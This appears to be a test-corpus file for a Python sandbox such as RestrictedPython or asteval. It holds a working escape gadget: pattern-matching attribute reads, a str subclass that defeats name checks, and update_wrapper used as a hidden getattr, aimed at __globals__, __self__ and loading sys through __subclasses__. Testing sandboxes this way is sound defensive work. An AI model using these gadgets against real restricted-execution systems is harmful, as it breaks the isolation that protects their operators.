# technique: the update_wrapper/str-subclass getattr gadget with update_wrapper and make_dataclass themselves read as data (namedtuple match), so no refused attribute name appears: json.dumps.__globals__, print.__self__
# source: RestrictedPython / asteval advisory class: str subclasses defeating name checks; pattern-matching getattr

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, collections, dataclasses, functools


def pub(mod, name):
    """mod.<name> for a name held as data: a namedtuple's __match_args__ is
    its field names, and an ABC registered for the module type matches."""
    N = collections.namedtuple('N', [name])

    class P(N, abc.ABC):
        pass
    P.register(type(mod))
    match mod:
        case P(v):
            return v
    raise AttributeError(name)


class S(str):
    """A str whose equality says yes to anything: name checks that compare
    with == (or look a name up in a tuple) are fooled, getattr is not."""
    def __eq__(self, other):
        return True

    def __hash__(self):
        return str.__hash__(self)


got = []


def cap(self, k, v):
    got.append(v)

update_wrapper = pub(functools, 'update_wrapper')
Sink = pub(dataclasses, 'make_dataclass')('Sink', [], namespace={dn('setattr'): cap})


def ga(obj, name):
    """getattr(obj, name) through functools.update_wrapper."""
    got.clear()
    update_wrapper(Sink(), obj, assigned=(S(name),), updated=())
    if not got:
        raise AttributeError(name)
    return got[0]


import json

attempt('json.dumps.__globals__', lambda: ga(json.dumps, dn('globals')))
attempt('print.__self__', lambda: ga(print, dn('self')))
attempt('object.__subclasses__ -> BuiltinImporter.load_module(sys)',
        lambda: [c for c in ga(object, dn('subclasses'))()
                 if c.__name__ == 'BuiltinImporter'][0].load_module('sys'))
